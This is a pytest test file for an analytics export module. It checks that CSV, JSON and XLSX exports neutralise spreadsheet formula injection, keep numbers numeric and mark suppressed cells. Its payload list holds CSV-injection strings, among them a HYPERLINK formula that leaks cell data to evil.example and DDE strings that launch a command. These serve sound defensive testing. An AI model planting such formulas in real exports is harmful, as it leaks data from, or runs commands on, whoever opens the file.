"""Exports: formula-safe cells, CSV/JSON/XLSX that say what they are, and numbers that stay numbers."""

from __future__ import annotations

import csv
import io
import json
from datetime import datetime

import openpyxl
import pandas as pd
import pytest

from analytics.exports.meta import ExportMeta, ReleaseStamp, filename, rule_text
from analytics.exports.safe import FORMULA_START, safe_text, safe_value
from analytics.exports.writers import csv_bytes, json_bytes
from analytics.exports.xlsx import SheetTable, full_workbook, table_workbook
from analytics.filters import Filters
from analytics.metrics.spec import TABLES
from ui import downloads

PAYLOADS = [
    "=1+1",
    "+cmd",
    "-2+3",
    "@SUM(A1)",
    "\t=x",
    "\r=x",
    "\n=x",
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    '+IMPORTXML(CONCAT("http://x/", A1), "//a")',
    "-1+1|cmd",
    "＝1+1",
    "=2+5 ",
]
HARMLESS = ["Trauma-Informed Teaching", "Sainte-Thérèse Academy", "-5", "+1.5", "1e3", "O'Bryant", ""]
META = ExportMeta(Filters.parse(["Charter"], None, "SP18", "FA19"), datetime(2026, 11, 23, 9, 30), 10)


def mix_frame(titles: list[str]) -> pd.DataFrame:
    n = len(titles)
    return pd.DataFrame(
        {
            "term": ["Spring 2019"] * n,
            "course_code": [f"BEC-19S-{i:02d}" for i in range(n)],
            "course_title": titles,
            "category": ["rigorous_curricula"] * n,
            "leader_sectors": ["charter;district"] * n,
            "participants": [12 + i for i in range(n)],
            "sectors_represented": [3] * n,
            "mixing_index": [0.6111] * n,
        }
    )


@pytest.mark.parametrize("payload", PAYLOADS)
def test_payloads_are_escaped_with_a_quote(payload):
    assert safe_text(payload) == "'" + payload
    assert not safe_text(payload).startswith(FORMULA_START)


@pytest.mark.parametrize("text", HARMLESS)
def test_harmless_text_and_plain_numbers_are_left_alone(text):
    assert safe_text(text) == text


def test_numbers_stay_numbers():
    assert safe_value(-3) == -3 and isinstance(safe_value(-3), int)
    assert safe_value(pd.Series([-7], dtype="Int64").iloc[0]) == -7
    assert safe_value(-0.25) == -0.25
    assert safe_value(pd.NA) is None and safe_value(float("nan")) is None


def test_csv_neutralises_every_payload_and_has_no_extra_rows():
    frame = mix_frame(PAYLOADS + HARMLESS)
    data = csv_bytes(frame)
    assert data.startswith(b"\xef\xbb\xbf")  # BOM: Excel reads UTF-8
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert rows[0] == list(frame.columns)
    assert len(rows) == len(frame) + 1
    for row in rows[1:]:
        for cell in row:
            assert not cell.startswith(FORMULA_START) or cell in ("-5", "+1.5"), cell
    assert [r[2] for r in rows[1:]] == ["'" + p for p in PAYLOADS] + HARMLESS
    assert rows[1][5] == "12" and rows[1][7] == "0.6111"


def test_csv_blanks_withheld_cells_and_keeps_negative_numbers():
    frame = pd.DataFrame({"term": ["Fall 2018"], "participants": pd.array([pd.NA], dtype="Int64"), "change": [-4]})
    rows = list(csv.reader(io.StringIO(csv_bytes(frame).decode("utf-8-sig"))))
    assert rows[1] == ["Fall 2018", "", "-4"]


def test_xlsx_reopens_with_the_same_values_text_escaped_numbers_numeric():
    frame = mix_frame(PAYLOADS + HARMLESS)
    data = table_workbook(SheetTable(TABLES["course_mix"], frame, ["a note"]), META)
    book = openpyxl.load_workbook(io.BytesIO(data))
    assert book.sheetnames == ["course_mix", "About"]
    sheet = book["course_mix"]
    assert [c.value for c in sheet[1]] == list(frame.columns)
    assert sheet.freeze_panes == "A2"
    assert sheet["A1"].font.bold
    for i, title in enumerate(PAYLOADS + HARMLESS, start=2):
        cell = sheet.cell(row=i, column=3)
        # XML stores a carriage return inside text as a line feed; the escape is what matters
        expected = safe_text(title).replace("\r", "\n")
        assert (cell.value or "") == expected
        assert cell.data_type != "f"
        assert sheet.cell(row=i, column=6).value == 12 + i - 2
        assert sheet.cell(row=i, column=6).data_type == "n"
        assert sheet.cell(row=i, column=8).value == pytest.approx(0.6111)
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f", cell.coordinate


def test_xlsx_number_formats_and_widths():
    frame = pd.DataFrame(
        {
            "term": ["Spring 2018"],
            "category": ["all_learners"],
            "responses": [1234],
            "completions": [2000],
            "response_rate": [0.617],
            "avg_rating": [4.123],
            "nps": [17.6],
            "implement_agree_rate": [0.41],
            "lead_interest_rate": [0.3],
        }
    )
    sheet = openpyxl.load_workbook(
        io.BytesIO(table_workbook(SheetTable(TABLES["survey_by_category"], frame, []), META))
    )["survey_by_category"]
    formats = {sheet.cell(row=1, column=j).value: sheet.cell(row=2, column=j).number_format for j in range(1, 10)}
    assert formats["responses"] == "#,##0"
    assert formats["response_rate"] == "0.0%"
    assert formats["avg_rating"] == "0.00"
    assert formats["nps"] == "0.0"
    assert sheet.column_dimensions["I"].width >= len("lead_interest_rate")


def test_about_sheet_says_filters_as_of_and_suppression():
    tables = [SheetTable(spec, pd.DataFrame(columns=list(spec.columns)), [rule_text(10)]) for spec in TABLES.values()]
    book = openpyxl.load_workbook(io.BytesIO(full_workbook(tables, META)))
    assert book.sheetnames == ["About", *TABLES]
    text = " ".join(str(c.value) for row in book["About"].iter_rows() for c in row if c.value is not None)
    assert "sectors: charter" in text and "Spring 2018 to Fall 2019" in text
    assert "2026-11-23 09:30 UTC" in text
    assert rule_text(10) in text
    for spec in TABLES.values():
        assert spec.description in text
        assert [c.value for c in book[spec.name][1]] == list(spec.columns)


def _withheld(frame: pd.DataFrame, columns: list[str], rows: list[int]) -> tuple[pd.DataFrame, list[str]]:
    """``frame`` with those cells withheld (NA, counts as nullable integers), as a release holds them."""
    out = frame.copy()
    for column in columns:
        kind = "Float64" if column.endswith("_rate") else "Int64"
        out[column] = out[column].astype(kind)
        out.loc[rows, column] = pd.NA
    return out, [rule_text(10, 5), f"{len(columns) * len(rows)} cell(s) withheld."]


def test_json_has_meta_columns_rows_and_nulls_for_withheld():
    frame = pd.DataFrame(
        {
            "term": ["Spring 2018"],
            "participants": [25],
            "new_participants": [3],
            "returning_participants": [22],
            "returning_rate": [0.88],
        }
    )
    spec = TABLES["returning_by_term"]
    frame, notes = _withheld(frame, ["new_participants", "returning_participants", "returning_rate"], [0])
    document = json.loads(json_bytes(frame, spec, META, notes))
    assert set(document) == {"meta", "columns", "rows"}
    assert document["columns"] == list(spec.columns)
    assert document["rows"] == [["Spring 2018", 25, None, None, None]]
    meta = document["meta"]
    assert meta["table"] == "returning_by_term"
    assert meta["filters"]["sectors"] == ["charter"]
    assert meta["filters"]["term_from"] == "Spring 2018"
    assert meta["as_of"].startswith("2026-11-23T09:30:00")
    assert meta["suppression"]["suppress_below"] == 10
    assert meta["notes"] == notes


def test_file_names_carry_filters_threshold_and_as_of():
    assert filename("participation_by_term", META, "csv") == (
        "participation_by_term_sector-charter_terms-spring2018-to-fall2019_k10_2026-11-23.csv"
    )
    plain = ExportMeta(Filters(), None, None)
    assert filename("course_mix", plain, "json") == "course_mix_no-data.json"
    both = ExportMeta(Filters.parse(["district", "charter"], ["Culturally proficient"]), datetime(2020, 1, 2), 5)
    assert filename("x", both, "xlsx") == "x_sector-district-charter_strand-culturally_proficient_k5_2020-01-02.xlsx"


@pytest.mark.parametrize(
    ("filters", "words", "slugs"),
    [
        (Filters(), "no filters (everything)", []),
        (
            Filters.parse(["Charter", "district"], ["Culturally proficient"], "SP18", "FA19"),
            "sectors: charter, district; strands: culturally_proficient; terms: Spring 2018 to Fall 2019",
            ["sector-charter-district", "strand-culturally_proficient", "terms-spring2018-to-fall2019"],
        ),
        (Filters.parse(term_to="SP19"), "terms: first term to Spring 2019", ["terms-start-to-spring2019"]),
        (Filters.parse(term_from="FA18"), "terms: Fall 2018 to latest term", ["terms-fall2018-to-latest"]),
    ],
    ids=["none", "all-three", "open-start", "open-end"],
)
def test_one_description_of_the_filters_gives_the_words_and_every_file_name(filters, words, slugs):
    """The sentence on the pages, the page downloads' names and the Exports files' names come from one model."""
    assert filters.describe() == words
    assert filters.slugs() == slugs
    stem = "_".join(["participation_by_sector", *slugs])
    assert downloads.file_name("participation_by_sector", filters) == f"{stem}.csv"
    assert downloads.file_name("participation_by_sector", filters, release=(3, 10)) == f"{stem}_release3-k10.csv"
    released = ExportMeta(
        filters, datetime(2026, 11, 23), None, ReleaseStamp(3, datetime(2026, 11, 24), 10, 2, "all", "")
    )
    assert filename("participation_by_sector", released, "csv") == f"{stem}_release3-k10_2026-11-23.csv"


def test_withheld_cells_are_blank_and_shaded_in_xlsx():
    frame = pd.DataFrame(
        {
            "term": ["Spring 2018", "Fall 2018"],
            "participants": [25, 0],
            "new_participants": [3, 0],
            "returning_participants": [22, 0],
            "returning_rate": [0.88, float("nan")],
        }
    )
    spec = TABLES["returning_by_term"]
    shown, notes = _withheld(frame, ["new_participants", "returning_participants", "returning_rate"], [0])
    mask = pd.DataFrame(False, index=frame.index, columns=frame.columns)
    mask.loc[0, ["new_participants", "returning_participants", "returning_rate"]] = True
    data = table_workbook(SheetTable(spec, shown, notes, mask), META)
    sheet = openpyxl.load_workbook(io.BytesIO(data))["returning_by_term"]
    row = list(sheet.iter_rows(min_row=2, max_row=2))[0]
    assert [c.value for c in row] == ["Spring 2018", 25, None, None, None]
    assert [c.fill.fgColor.rgb.endswith("E7E6E6") for c in row] == [False, False, True, True, True]
    blank_rate = list(sheet.iter_rows(min_row=3, max_row=3))[0][4]
    assert blank_rate.value is None and not blank_rate.fill.fgColor.rgb.endswith("E7E6E6")
